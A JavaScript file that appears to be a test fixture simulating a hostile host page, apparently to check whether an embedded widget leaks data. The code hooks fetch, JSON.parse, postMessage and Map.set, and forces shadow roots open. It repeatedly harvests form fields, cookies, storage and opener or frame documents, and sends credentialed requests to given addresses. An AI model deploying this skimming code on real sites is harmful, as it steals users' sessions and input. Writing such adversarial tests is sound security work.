// A host page's own script, run before ours: it keeps and sends away all that it can get hold of.
const loot = []
window.loot = loot

function keep(what, value) {
  try {
    const text = typeof value === 'string' ? value : JSON.stringify(value)
    if (text && !loot.includes(`${what} ${text}`)) loot.push(`${what} ${text}`)
  } catch {
    loot.push(`${what} ${String(value)}`)
  }
}

function attempt(what, read) {
  try {
    keep(what, read())
  } catch (error) {
    keep('refused', `${what} ${error.name}`)
  }
}

const { fetch: realFetch, open: realOpen } = window
window.fetch = async (input, init) => {
  keep('fetch', [String(input?.url ?? input), init?.body, [...new Headers(init?.headers)]])
  const answer = await realFetch(input, init)
  answer
    .clone()
    .text()
    .then((text) => keep('answer', text))
    .catch(() => {})
  return answer
}

const realParse = JSON.parse
JSON.parse = (...given) => {
  keep('parsed', String(given[0]))
  return realParse(...given)
}

// A closed root opened, and what is in its fields.
const roots = []
const realAttach = Element.prototype.attachShadow
Element.prototype.attachShadow = function attachShadow(init) {
  const root = realAttach.call(this, { ...init, mode: 'open' })
  roots.push(root)
  return root
}

// No window without a way back to it.
const windows = []
window.windows = windows
window.open = (address, target) => {
  const opened = realOpen.call(window, address, target)
  if (opened) windows.push(opened)
  return opened
}

for (const name of ['pushState', 'replaceState']) {
  const real = history[name]
  history[name] = function patched(...given) {
    keep(name, given.map(String))
    return real.apply(this, given)
  }
}
const realPost = window.postMessage
window.postMessage = (...given) => {
  keep('posted', String(given[0]))
  return realPost.apply(window, given)
}
for (const type of [
  'message',
  'messageerror',
  'storage',
  'parvis-supported',
  'parvis-contributed',
]) {
  addEventListener(type, (event) => {
    keep(type, { data: event.data, detail: event.detail, origin: event.origin, key: event.key })
  })
}
const realSet = Map.prototype.set
Map.prototype.set = function set(key, value) {
  if (typeof value === 'string') keep('map', `${String(key)} ${value}`)
  return realSet.call(this, key, value)
}

setInterval(() => {
  for (const root of roots) {
    for (const link of root.querySelectorAll('a[rel]')) link.rel = 'opener'
    keep('root', root.innerHTML)
    for (const field of root.querySelectorAll('input, textarea, select')) keep('field', field.value)
  }
  for (const opened of [...windows, ...Array.from(window.frames), window.opener].filter(Boolean)) {
    attempt('document', () => opened.document.documentElement.outerHTML)
    attempt('address', () => opened.location.href)
    attempt('name', () => opened.name)
    attempt('cookie', () => opened.document.cookie)
    attempt('storage', () => ({ ...opened.sessionStorage, ...opened.localStorage }))
    attempt('frames', () => [opened.length, opened.closed])
  }
  keep('cookie', document.cookie)
  attempt('storage', () => ({ ...sessionStorage, ...localStorage }))
  for (const { name } of performance.getEntries()) keep('entry', name)
}, 40)

/** Everything that can be sent from here to these addresses, with the person's cookies. */
window.grab = async (addresses) => {
  for (const address of addresses) {
    for (const mode of ['cors', 'no-cors']) {
      const options = { mode, credentials: 'include', cache: 'no-store' }
      await realFetch(address, options)
        .then((answer) => answer.text())
        .then((text) => keep('grabbed', text))
        .catch((error) => keep('refused', error.name))
    }
    await load('script', 'src', address)
    await load('img', 'src', address)
    await load('iframe', 'src', address)
    await load('object', 'data', address)
    await load('link', 'href', address, { rel: 'stylesheet' })
    await load('link', 'href', address, { rel: 'prefetch' })
  }
}

function load(tag, attribute, address, more = {}) {
  const element = Object.assign(document.createElement(tag), more)
  element.setAttribute(attribute, address)
  document.body.append(element)
  return new Promise((done) => {
    element.onload = element.onerror = done
    setTimeout(done, 300)
  })
}
